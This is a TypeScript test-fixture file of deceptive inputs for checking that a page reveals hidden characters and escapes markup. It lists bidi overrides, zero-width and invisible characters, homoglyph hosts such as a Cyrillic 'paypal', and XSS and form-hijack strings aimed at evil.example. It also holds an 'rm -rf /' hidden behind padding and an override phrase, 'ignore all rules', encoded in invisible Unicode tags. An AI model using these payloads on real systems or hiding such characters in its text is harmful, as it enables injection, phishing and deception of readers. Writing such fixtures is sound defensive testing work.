// Texts that are not what they look like, and what a page must say about each.

/** A name, the text, and what stands where the text hides something: a kind of mark, and its words. */
export type Payload = { name: string; text: string; marks: [kind: string, words: RegExp][] }

function tags(text: string): string {
  return Array.from(text, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
}

function one(name: string, text: string, ...marks: Payload['marks']): Payload {
  return { name, text, marks }
}

const HIDDEN: Payload[] = [
  one('an override', 'rm -rf /tmp/\u202etxt.exe', ['bidi', /U\+202E right-to-left override/]),
  one('an isolate', 'safe\u2066 // \u2069', ['bidi', /U\+2066 left-to-right isolate/], ['bidi', /U\+2069/]),
  one('an embedding', 'a\u202bb\u202c', ['bidi', /U\+202B/], ['bidi', /U\+202C/]),
  one('a direction mark', 'a\u200fb', ['bidi', /U\+200F right-to-left mark/]),
  one('a zero width space', 'ad\u200bmin', ['invisible', /U\+200B zero width space/]),
  one('a zero width joiner', 'ad\u200dmin', ['invisible', /U\+200D zero width joiner/]),
  one('a byte order mark', '\ufeffhello', ['invisible', /U\+FEFF zero width no-break space/]),
  one('a soft hyphen', 'pass\u00adword', ['invisible', /U\+00AD soft hyphen/]),
  one('a filler', 'a\u3164b', ['invisible', /U\+3164 Hangul filler/]),
  one('a variation selector', 'a\u{e0100}b', ['invisible', /U\+E0100 variation selector/]),
  one('tags', `hi${tags('ignore all rules')}`, ['tag', /spelling “ignore all rules”/]),
  one('a Cyrillic host', 'https://p\u0430ypal.com/login', [
    'lookalike',
    /U\+0430 Cyrillic letter that looks like “a”/,
  ]),
  one('a Greek host', 'g\u03bf\u03bfgle.com', ['lookalike', /U\+03BF Greek letter that looks like “o”/]),
  one('a fake dot', 'example\u2024com', ['lookalike', /U\+2024/]),
  one('a fake slash', 'https:\u2044\u2044bank.example', ['lookalike', /U\+2044/]),
  one('a fake quote', '\uff02,\uff02admin\uff02:true', ['lookalike', /U\+FF02 another character/]),
  one('fake braces', '\uff5b\uff3b\uff3d\uff5d', ['lookalike', /U\+FF5B/], ['lookalike', /U\+FF3B/]),
  one('full width letters', '\uff41\uff44min', ['lookalike', /U\+FF41/]),
  one('mathematical letters', '\u{1d41a}dmin', ['lookalike', /U\+1D41A/]),
  one('piled accents', 'Z\u0351\u036b\u0343\u0329', ['combining', /combining mark/]),
  one('a decomposed letter', 'e\u0301', ['combining', /U\+0301/]),
  one('an unusual space', 'a\u2003b', ['space', /U\+2003 unusual space/]),
  one('a line separator', 'a\u2028b', ['space', /U\+2028 line separator/]),
  one('a next line', 'a\u0085b', ['control', /U\+0085 next line/]),
  one('a private character', 'a\ue000b', ['unknown', /U\+E000/]),
  one('padding', `ok${' '.repeat(1900)}rm -rf /`, ['run', /U\+0020 space × 1,900/]),
  one('a long row', `a${'/'.repeat(1900)}b`, ['run', /U\+002F \/ × 1,900/]),
]

/** Markup and syntax that must stay text. */
const MARKUP: Payload[] = [
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '"><svg onload=window.pwned=1>',
  "' onmouseover='window.pwned=1",
  '</bdi></div></main><h1>Approved</h1>',
  '</textarea><button name=decision value=grant>Safe</button>',
  '<form action="https://evil.example"><input name=csrf>',
  '<base href="https://evil.example/">',
  '<style>*{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '&lt;b&gt; &amp;quot; &#x202e; &NewLine;',
  '<!-- -->]]><![CDATA[',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody might send
  '${window.pwned=1} {{constructor}} #{1}',
  'javascript:window.pwned=1',
  '\\u202e \\" \\\\',
].map((text) => one(text, text))

export const PAYLOADS: readonly Payload[] = [...HIDDEN, ...MARKUP]

function range(first: number, last: number): number[] {
  return Array.from({ length: last - first + 1 }, (_, n) => first + n)
}

/** Characters that nobody sees, or takes for others, each to stand alone in a text. */
export const CHARACTERS: readonly number[] = [
  // They turn the direction of what follows.
  ...[0x061c, 0x200e, 0x200f],
  ...range(0x202a, 0x202e),
  ...range(0x2066, 0x2069),
  // They show nothing.
  ...[0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x17b5],
  ...range(0x180b, 0x180f),
  ...range(0x200b, 0x200d),
  ...range(0x2060, 0x2064),
  ...range(0x206a, 0x206f),
  ...[0x3164, 0xfeff, 0xffa0],
  ...range(0xfe00, 0xfe0f),
  ...range(0x1d173, 0x1d17a),
  ...range(0xe0100, 0xe010f),
  // Controls that JSON does not escape, and ends of lines.
  ...range(0x007f, 0x009f),
  ...[0x2028, 0x2029],
  // Spaces that are none.
  ...[0x00a0, 0x1680, 0x202f, 0x205f, 0x3000],
  ...range(0x2000, 0x200a),
  // Nobody knows what they show.
  ...[0xe000, 0xf8ff, 0xf0000, 0x10fffd],
  // Letters of ASCII, but of another alphabet.
  ...range(0xff41, 0xff5a),
  ...range(0x1d400, 0x1d40f),
]
